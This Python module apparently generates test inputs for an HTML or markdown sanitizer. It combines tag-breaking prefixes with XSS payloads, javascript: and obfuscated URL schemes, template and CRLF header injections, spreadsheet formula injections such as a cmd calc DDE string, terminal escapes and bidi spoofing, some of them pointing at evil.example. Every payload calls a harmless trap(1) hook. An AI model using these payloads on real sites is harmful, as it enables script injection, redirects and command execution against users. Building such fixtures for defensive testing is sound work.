"""Hostile texts, made by construction: what breaks out x what would run x how it is written. No text is from elsewhere."""

from __future__ import annotations

import html
from itertools import product
from urllib.parse import quote

TRAP = "trap(1)"
"""What would run: the browser test defines `trap`, and notices its call."""

BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "-->",
    "]]>",
    "</script>",
    "</style></textarea></noscript>",
    "</p></bdi></a>",
    "`>",
    "\n\n",
    "&quot;>",
)
"""What ends the place that a text stands in: an attribute, a raw text element, a comment, a CDATA section, a paragraph."""

ACTS = (
    f"<script>{TRAP}</script>",
    f"<script src=data:text/javascript,{TRAP}></script>",
    f"<img src=x onerror={TRAP}>",
    f"<svg/onload={TRAP}>",
    f"<svg><script>{TRAP}</script></svg>",
    f"<iframe srcdoc='<script>parent.{TRAP}</script>'></iframe>",
    f"<body onload={TRAP}>",
    f"<details open ontoggle={TRAP}><summary>x",
    f"<input autofocus onfocus={TRAP}>",
    f"<a href=javascript:{TRAP}>x</a>",
    f"<form action=javascript:{TRAP}><button>x",
    f"<object data=javascript:{TRAP}></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={TRAP}>",
    f"<noscript><p title='</noscript><img src=x onerror={TRAP}>'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<p style=position:fixed>x</p>",
    "<p id=main class=masthead>x</p>",
    "<form name=location><input name=cookie>",
    "<template shadowrootmode=open><slot></slot></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml-stylesheet href='https://evil.example/a.xsl' type='text/xsl'?>",
)  # fmt: skip
"""What would run, load, lead away, restyle, take over a name, or swallow the rest of a page."""

HANDLERS = tuple(
    f"{mark} {handler}={TRAP} x={mark}"
    for mark in ('"', "'", "`")
    for handler in ("onmouseover", "onfocus autofocus tabindex=1 onblur", "onanimationstart")
)
"""What would add a handler to an attribute that it ends."""

SCHEMES = ("javascript", "data:text/html,<script>trap(1)</script>", "vbscript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", " javascript", "javascript&colon;", "&#106;avascript", "java&#0115;cript", "java&#1;script", "java&Tab;script", "ja\u00advascript", "\u202ejavascript", "feed:javascript", "view-source:javascript", "https://a.example@javascript", "//evil.example/?", "\\\\evil.example\\", "file:///etc/passwd#", "blob:https://evil.example/", "mailto:a@evil.example?", "http://[::1", "http://evil.example%00.example/", "https://evil.example:99999/")  # fmt: skip
"""Beginnings of addresses that run, lead nowhere, or are no addresses."""

ADDRESSES = (
    *(f"{scheme}:{TRAP}" if ":" not in scheme else scheme for scheme in SCHEMES),
    *(f"https://outlet.example/{tail}" for tail in ('"onmouseover=trap(1) x="', "'><script>trap(1)</script>", "<svg/onload=trap(1)>", "a b", "\u202egpj.exe", "\x00", "\x01", "\u2028x", "a\r\nSet-Cookie: x=1", "%0d%0aSet-Cookie:%20x=1", "&quot;&gt;&lt;script&gt;", "{{7*7}}", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "]]>", "-->")),
)  # fmt: skip

MARKDOWN = (
    *(form.format(address) for address in ADDRESSES for form in ("[x]({})", "[x](<{}>)", "<{}>", "![x]({})")),
    *(f"[x][r]\n\n[r]: {address}" for address in ADDRESSES),
    *(f"[x](https://outlet.example/ {mark}{act}{mark})" for act in ACTS[:6] for mark in ('"', "'")),
    *(f"```{act}\n{act}\n```" for act in ACTS[:4]),
    *(f"```html\n{act}\n```" for act in ACTS[:4]),
    "[x](#main)", "[a]: #a 'b\" onclick=trap(1) x=\"'\n\n[a]", "*[x](javascript:trap(1))*", "[![x](data:text/html,x)](javascript:trap(1))",
    "| a | b |\n|---|---|\n| <script>trap(1)</script> | [x](javascript:trap(1)) |", "> <script>trap(1)</script>", "- <img src=x onerror=trap(1)>\n- \\<b>", "# <script>trap(1)</script>\n===",
    "&lt;script&gt;trap(1)&lt;/script&gt;", "\\<script>trap(1)\\</script>", "&#60;script&#62;trap(1)&#60;/script&#62;",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}1337",
    "{% include 'base.html' %}",
    "{#",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{ site.__class__ }}",
    "{n}",
    "{0.__class__}",
    "%(x)s",
    "%s%n",
)
"""What templates and formats would fill in."""

INJECTIONS = (
    "x\r\nSet-Cookie: a=1", "x\n/* https://evil.example/ 301", "x\n/*\n  Content-Security-Policy: default-src *", "x\n::error file=a::b", "::add-mask::x", "x\r\n\r\n<script>trap(1)</script>",
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("https://evil.example/")', "=cmd|' /C calc'!A0", "|x", "%0A=1+1", "\uff1d1+1",
    "x\x1b[2Jy", "x\x1b]0;title\x07y", "x\x9b31my", "x\x08\x08y", "x\x00y", "x\x01\x02y", "x\x0b\x0cy", "x\x7f\x85y", "x\ufffe\uffffy", "x\u2028y\u2029z", "x\ud800y", "\ufeffx", "x\ufff9y\ufffaz\ufffb",
    "\u202egpj.exe", "a\u202e\u202db\u202c", "\u2066a\u2069\u2067b", "\u200e\u200f\u061cx", "\u200bx\u200d\u200c", "x\U000e0041\U000e007f",
)  # fmt: skip
"""What would add lines to a file of lines, run in a spreadsheet, steer a terminal, or turn a line around."""


def spellings(text: str) -> tuple[str, ...]:
    """Return a text in the spellings that something on the way may undo."""
    entities = "".join(f"&#{ord(letter)};" for letter in text)
    bare = "".join(f"&#x{ord(letter):x}" for letter in text)
    return (
        text,
        text.upper().replace(TRAP.upper(), TRAP),
        html.escape(text),
        html.escape(html.escape(text)),
        entities,
        bare,
        quote(text),
        quote(quote(text)),
        "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text),
        text.replace("<", "+ADw-").replace(">", "+AD4-"),
        text.replace("<", "<\x00"),
        text.replace("s", "s\x01").replace("o", "o\u00ad"),
        text.replace("<", "\\u003c").replace(">", "\\x3e"),
        text.replace("<", "\u2039<\u202e"),
    )


SPELT = tuple(dict.fromkeys(spelt for act in ACTS[:10] for spelt in spellings(act)))

BROKEN_OUT = tuple(f"{end}{act}" for end, act in product(BREAKS, ACTS))

TEXTS = tuple(dict.fromkeys((*BROKEN_OUT, *HANDLERS, *SPELT, *ADDRESSES, *TEMPLATES, *INJECTIONS)))
"""Every hostile text for a field of one line."""
